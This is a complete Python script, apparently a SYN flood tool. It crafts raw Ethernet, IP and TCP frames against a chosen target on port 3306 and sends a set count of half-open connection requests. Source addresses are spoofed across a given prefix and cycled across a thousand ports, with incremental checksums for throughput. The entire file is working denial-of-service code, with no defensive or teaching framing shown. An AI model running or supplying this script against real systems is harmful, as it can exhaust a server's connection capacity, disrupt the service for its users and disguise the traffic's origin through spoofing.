"""SYNs that nobody goes on from: flood.py OWN_MAC TARGET_MAC TARGET COUNT PREFIX. Each of another address and port;
prints how many were sent, and in how many seconds.
"""

import socket
import struct
import sys
import time

own, target_mac, target, count, prefix = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5]


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


ethernet = bytes.fromhex(target_mac.replace(":", "") + own.replace(":", "")) + b"\x08\x00"
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("eth0", 0))
there = socket.inet_aton(target)
first, second = map(int, prefix.split("."))
begun, sent = time.monotonic(), 0
ports = [struct.pack("!HHIIHHHH", port, 3306, 7, 0, 0x5002, 65535, 0, 0) for port in range(1024, 1024 + 1000)]
while sent < count:
    number = sent // 1000
    source = bytes([first, second, number >> 8 & 255, number & 255])
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, source, there)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    pseudo = checksum(source + there + struct.pack("!HH", 6, 20) + ports[0]) ^ 0xFFFF
    for place, port in enumerate(ports[: count - sent]):
        # Only the port differs from the first.
        total = pseudo + place
        total = (total & 0xFFFF) + (total >> 16)
        tcp = port[:16] + struct.pack("!H", ~total & 0xFFFF) + port[18:]
        try:
            link.send(ethernet + head + tcp)
        except OSError:
            time.sleep(0.001)
        sent += 1
print(f"sent {sent} seconds {time.monotonic() - begun:.1f}", flush=True)
